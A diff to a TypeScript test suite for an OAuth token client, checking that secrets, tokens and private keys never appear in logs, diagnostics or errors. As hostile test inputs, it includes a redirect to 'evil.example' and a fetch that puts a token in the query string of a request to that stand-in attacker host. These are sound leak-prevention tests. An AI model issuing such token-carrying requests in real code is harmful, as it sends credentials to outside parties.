@@ -1,5 +1,4 @@
-import { subscribe, unsubscribe } from 'node:diagnostics_channel';
-import { inspect } from 'node:util';
+/** Secrets and tokens leave no trace in anything that a token client puts out. */
 import {
   clientSecretBasic,
   clientSecretPost,
@@ -9,7 +8,7 @@ import {
   type TokenClient,
   type TokenClientOptions,
 } from '@scopegate/client';
-import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
+import { beforeEach, describe, expect } from 'vitest';
 import {
   createStubClock,
   createStubTokenServer,
@@ -21,6 +20,8 @@ import {
   refuseToken,
   type StubTokenServer,
 } from '../../support/stub-token-server.js';
+import { verifies } from '../support/verifies.js';
+import { type Output, watchOutput } from './tracer.js';
 import { createKeyPair } from '../../support/key-pairs.js';
 
 const SECRET = 'canary-secret';
@@ -32,7 +33,7 @@ const { privateKey, privateJwk } = createKeyPair('P-256');
 const pem = String(privateKey.export({ type: 'pkcs8', format: 'pem' }));
 const { d: privateNumber = '' } = privateJwk;
 
-/** All that must not be seen, in the forms it travels in. */
+/** Secrets and tokens, in each form that they are sent in. */
 const CANARIES = [
   SECRET,
   TOKEN,
@@ -42,50 +43,15 @@ const CANARIES = [
   privateNumber,
 ];
 
-/** Formats everything that could appear in a log. */
-function show(value: unknown): string {
-  const shown = [
-    inspect(value, { depth: 9 }),
-    inspect(value, { depth: 9, showHidden: true, getters: true }),
-    JSON.stringify(value),
-    value instanceof Error ? value.stack : String(value),
-  ];
-  if (value instanceof Error) {
-    shown.push(inspect(Object.entries(value)), inspect(Object.getOwnPropertyDescriptors(value)));
-  }
-  return shown.join('\n');
-}
-
 function findCanaries(text: string): string[] {
   return CANARIES.filter((canary) => text.includes(canary));
 }
 
-describe('secrets and tokens of a token client', () => {
-  const events: unknown[] = [];
-  const written: string[] = [];
-  const record = (event: unknown): void => {
-    events.push(event);
-  };
-
-  beforeAll(() => {
-    subscribe(TOKEN_CHANNEL, record);
-    for (const stream of [process.stdout, process.stderr]) {
-      const write = stream.write.bind(stream);
-      vi.spyOn(stream, 'write').mockImplementation(((chunk: string, ...rest: []) => {
-        written.push(chunk);
-        return write(chunk, ...rest);
-      }) as typeof stream.write);
-    }
-  });
+describe('leaks of a token client: secrets and tokens', () => {
+  let output: Output;
 
   beforeEach(() => {
-    events.length = 0;
-  });
-
-  afterAll(() => {
-    unsubscribe(TOKEN_CHANNEL, record);
-    vi.restoreAllMocks();
-    expect(findCanaries(written.join(''))).toEqual([]);
+    output = watchOutput([TOKEN_CHANNEL]);
   });
 
   function clientOf(server: StubTokenServer, options: Partial<TokenClientOptions> = {}) {
@@ -99,7 +65,7 @@ describe('secrets and tokens of a token client', () => {
     });
   }
 
-  /** Uses a client in every way, and gives all that comes of it. */
+  /** Uses a client in each way there is. */
   async function use(client: TokenClient): Promise<unknown[]> {
     const source = client.for(ANALYTICS);
     const outcomes = await Promise.allSettled([
@@ -119,7 +85,7 @@ describe('secrets and tokens of a token client', () => {
   const refuseWithEcho = (error: string) => (request: SeenRequest) =>
     refuseToken(error, { error_description: quote(request), error_uri: quote(request) });
 
-  it.each<[string, Partial<StubTokenServer>]>([
+  const REPLIES: readonly (readonly [string, Partial<StubTokenServer>])[] = [
     ['all goes well', { onToken: grant }],
     ['the scope is smaller', { onToken: () => grantToken({ access_token: TOKEN, scope: 'a' }) }],
     ['the client is refused, and quoted', { onToken: refuseWithEcho('invalid_client') }],
@@ -183,16 +149,23 @@ describe('secrets and tokens of a token client', () => {
           new Response(null, { status: 302, headers: { location: 'http://evil.example/' } }),
       },
     ],
-  ])('are not in any output when %s', async (_case, replies) => {
-    for (const create of [clientSecretBasic, clientSecretPost]) {
-      const server = Object.assign(createStubTokenServer(), replies);
-      const client = clientOf(server, { clientAuthentication: create(() => SECRET) });
-      const shown = [...(await use(client)), ...events].map(show).join('\n');
-      expect(findCanaries(shown)).toEqual([]);
-    }
-  });
+  ];
+  for (const [name, replies] of REPLIES) {
+    verifies(
+      'rfc6749#10.3/token-value-leaves-no-trace',
+      `leave no trace when ${name}`,
+      async () => {
+        for (const create of [clientSecretBasic, clientSecretPost]) {
+          const server = Object.assign(createStubTokenServer(), replies);
+          const client = clientOf(server, { clientAuthentication: create(() => SECRET) });
+          output.add(...(await use(client)));
+          expect(findCanaries(output.text())).toEqual([]);
+        }
+      },
+    );
+  }
 
-  it.each<[string, TokenClientOptions['clientAuthentication']]>([
+  const CREDENTIALS: readonly (readonly [string, TokenClientOptions['clientAuthentication']])[] = [
     [
       'a reader throws the secret',
       clientSecretBasic(() => {
@@ -211,48 +184,66 @@ describe('secrets and tokens of a token client', () => {
     ['the key is half a JWK', privateKeyJwt(() => `{"d":"${privateNumber}"`)],
     ['the JWK is malformed', privateKeyJwt(() => ({ kty: 'EC', crv: SECRET, d: privateNumber }))],
     ['the key is for another algorithm', privateKeyJwt(() => pem, { alg: 'RS256' })],
-  ])('are not in any output when %s', async (_case, clientAuthentication) => {
-    const server = createStubTokenServer();
-    const outcomes = await use(clientOf(server, { clientAuthentication }));
-    expect(outcomes).toContainEqual(
-      expect.objectContaining({ reason: expect.objectContaining({ reason: 'credential' }) }),
+  ];
+  for (const [name, clientAuthentication] of CREDENTIALS) {
+    verifies(
+      'rfc6749#10.3/token-value-leaves-no-trace',
+      `leave no trace when ${name}`,
+      async () => {
+        const server = createStubTokenServer();
+        const outcomes = await use(clientOf(server, { clientAuthentication }));
+        expect(outcomes).toContainEqual(
+          expect.objectContaining({ reason: expect.objectContaining({ reason: 'credential' }) }),
+        );
+        output.add(...outcomes);
+        expect(findCanaries(output.text())).toEqual([]);
+        expect(server.tokenRequests).toEqual([]);
+      },
     );
-    expect(findCanaries([...outcomes, ...events].map(show).join('\n'))).toEqual([]);
-    expect(server.tokenRequests).toEqual([]);
-  });
+  }
 
-  it('are not in errors of invalid options', () => {
-    const refusals = [
-      () => clientSecretBasic(SECRET as never),
-      () => privateKeyJwt(pem as never),
-      () => clientOf(createStubTokenServer(), { clientAuthentication: SECRET as never }),
-      () => clientOf(createStubTokenServer(), { issuer: `https://u:${SECRET}@auth.example.com` }),
-      () => clientOf(createStubTokenServer()).for({ resource: `https://u:${SECRET}@a.example` }),
-      () => clientOf(createStubTokenServer()).for({ parameters: { client_secret: SECRET } }),
-    ];
-    const errors = refusals.map((refuse): unknown => {
-      try {
-        return refuse();
-      } catch (error) {
-        return error;
-      }
-    });
-    expect(errors.map((error) => error instanceof TypeError)).toEqual(refusals.map(() => true));
-    expect(findCanaries(errors.map(show).join('\n'))).toEqual([]);
-  });
+  verifies(
+    'rfc6749#10.3/token-value-leaves-no-trace',
+    'leave no trace in errors of invalid options',
+    () => {
+      const refusals = [
+        () => clientSecretBasic(SECRET as never),
+        () => privateKeyJwt(pem as never),
+        () => clientOf(createStubTokenServer(), { clientAuthentication: SECRET as never }),
+        () => clientOf(createStubTokenServer(), { issuer: `https://u:${SECRET}@auth.example.com` }),
+        () => clientOf(createStubTokenServer()).for({ resource: `https://u:${SECRET}@a.example` }),
+        () => clientOf(createStubTokenServer()).for({ parameters: { client_secret: SECRET } }),
+      ];
+      const errors = refusals.map((refuse): unknown => {
+        try {
+          return refuse();
+        } catch (error) {
+          return error;
+        }
+      });
+      expect(errors.map((error) => error instanceof TypeError)).toEqual(refusals.map(() => true));
+      output.add(...errors);
+      expect(findCanaries(output.text())).toEqual([]);
+    },
+  );
 
-  it('are not in errors of fetch', async () => {
-    const server = createStubTokenServer();
-    server.onToken = grant;
-    const source = clientOf(server).for(ANALYTICS);
-    await source.token();
-    const outcomes = await Promise.allSettled([
-      source.fetch(`https://user:${SECRET}@api.example.com/`),
-      source.fetch(`https://evil.example/?token=${TOKEN}`),
-      source.fetch(`//${SECRET}`),
-      source.fetch(ROWS, { headers: { authorization: `Bearer ${TOKEN}` } }),
-    ]);
-    expect(new Set(outcomes.map(({ status }) => status))).toEqual(new Set(['rejected']));
-    expect(findCanaries(outcomes.map(show).join('\n'))).toEqual([]);
-  });
+  verifies(
+    'rfc6749#10.3/token-value-leaves-no-trace',
+    'leave no trace in errors of fetch',
+    async () => {
+      const server = createStubTokenServer();
+      server.onToken = grant;
+      const source = clientOf(server).for(ANALYTICS);
+      await source.token();
+      const outcomes = await Promise.allSettled([
+        source.fetch(`https://user:${SECRET}@api.example.com/`),
+        source.fetch(`https://evil.example/?token=${TOKEN}`),
+        source.fetch(`//${SECRET}`),
+        source.fetch(ROWS, { headers: { authorization: `Bearer ${TOKEN}` } }),
+      ]);
+      expect(new Set(outcomes.map(({ status }) => status))).toEqual(new Set(['rejected']));
+      output.add(...outcomes);
+      expect(findCanaries(output.text())).toEqual([]);
+    },
+  );
 });
